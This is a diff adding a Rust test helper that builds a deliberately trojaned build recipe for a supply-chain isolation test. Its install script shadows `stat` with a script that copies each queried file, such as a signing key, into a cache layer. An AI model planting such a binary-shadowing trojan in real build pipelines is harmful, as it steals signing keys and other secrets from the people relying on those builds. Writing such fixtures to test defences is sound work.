@@ -31,6 +31,36 @@ fn copy_tree(from: &Path, to: &Path) {
     }
 }
 
+/// What [`trojan_recipe`]'s build code leaves in the buildcache layer: a
+/// sign that it ran, and a copy of each file the planted `stat` is asked about
+/// (`stolen-NAME`).
+pub const TROJAN_PLANTED: &str = "trojan-planted";
+
+/// The hello recipe whose install stage, like a bad upstream release, plants
+/// a `stat` ahead of the real one in its instance that copies every file it
+/// is asked about into the buildcache layer. The test recipe's publish.sh asks
+/// it about the signing key: only a publish in the same instance is robbed.
+pub fn trojan_recipe(root: &Path) -> PathBuf {
+    let install = std::fs::read_to_string(hello_recipe().join("scripts/install.sh.j2"))
+        .expect("reading the hello recipe");
+    let trojan = format!(
+        r#"{install}
+# The attack: every later `stat` in this instance keeps what it looks at.
+layer=/opt/slurm-factory/cache/buildcache
+cat > /usr/local/bin/stat <<'SH'
+#!/bin/sh
+for f in "$@"; do
+  [ -f "$f" ] && cp "$f" "/opt/slurm-factory/cache/buildcache/stolen-$(basename "$f")"
+done
+exec /usr/bin/stat "$@"
+SH
+chmod 0755 /usr/local/bin/stat
+touch "$layer/{TROJAN_PLANTED}"
+"#
+    );
+    recipe_variant(root, &[("scripts/install.sh.j2", &trojan)])
+}
+
 /// The hello recipe with an install stage that says it started and then
 /// takes five minutes: something to cancel.
 pub fn slow_install_recipe(root: &Path) -> PathBuf {
